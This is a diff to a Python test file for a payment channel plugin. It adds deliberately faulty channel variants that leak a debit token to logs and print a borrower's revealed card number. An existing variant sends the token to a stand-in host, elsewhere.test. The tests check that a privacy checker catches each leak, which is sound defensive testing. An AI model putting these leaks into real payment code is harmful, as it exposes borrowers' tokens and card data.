@@ -1,5 +1,6 @@
 """What shows or keeps a person is found."""
 
+import logging
 from collections.abc import Callable
 from contextlib import suppress
 from dataclasses import replace
@@ -9,7 +10,7 @@ import pytest
 from suidai_allinpay.channel import AllinpayChannel
 
 from plugins.testing import Subject, nothing_personal_shows, states_are_small
-from suidai.contract import Debit, PaymentResult, SmsSent
+from suidai.contract import BeginMandate, Debit, MandateResult, MandateState, PaymentResult, SmsSent
 from tests.plugins.testing.allinpay import Check, spoiled, then
 
 
@@ -17,6 +18,23 @@ async def tells_of_the_token(self: Any, asked: Debit) -> PaymentResult:
     with suppress(Exception):
         await self._runtime.http.get("https://elsewhere.test/", params={"agreement": asked.token})
     return await AllinpayChannel.debit(self, asked)
+
+
+async def logs_the_token(self: Any, asked: Debit) -> PaymentResult:
+    self._runtime.logger.warning("a debit under %s", asked.token)
+    return await AllinpayChannel.debit(self, asked)
+
+
+async def logs_the_token_by_itself(self: Any, asked: Debit) -> PaymentResult:
+    logging.getLogger("suidai_allinpay.channel").error("a debit under %s", asked.token)
+    return await AllinpayChannel.debit(self, asked)
+
+
+async def prints_the_card(self: Any, asked: BeginMandate) -> MandateResult:
+    told = await AllinpayChannel.begin_mandate(self, asked)
+    if told.state is MandateState.ACTION_REQUIRED:
+        print(asked.borrower.card_number.reveal())  # noqa: T201
+    return told
 
 
 def with_state(state: Callable[[Any], Any]) -> Callable[[Any, Any], Any]:
@@ -34,6 +52,9 @@ def with_state(state: Callable[[Any], Any]) -> Callable[[Any, Any], Any]:
             "a person's data",
         ),
         (nothing_personal_shows, spoiled(debit=tells_of_the_token), "shows a secret, a person or a token"),
+        (nothing_personal_shows, spoiled(debit=logs_the_token), "shows a secret, a person or a token"),
+        (nothing_personal_shows, spoiled(debit=logs_the_token_by_itself), "shows a secret, a person or a token"),
+        (nothing_personal_shows, spoiled(begin_mandate=prints_the_card), "shows a secret, a person or a token"),
         (
             nothing_personal_shows,
             then("begin_mandate", lambda asked, told: replace(told, bank=asked.borrower.phone.reveal())),
@@ -48,7 +69,7 @@ def with_state(state: Callable[[Any], Any]) -> Callable[[Any, Any], Any]:
             "shows a secret, a person or a token",
         ),
     ],
-    ids=range(6),
+    ids=range(9),
 )
 async def test_a_fault_of_a_debiting_channel_is_found(check: Check, subject: Subject, says: str) -> None:
     with pytest.raises(AssertionError, match=says):
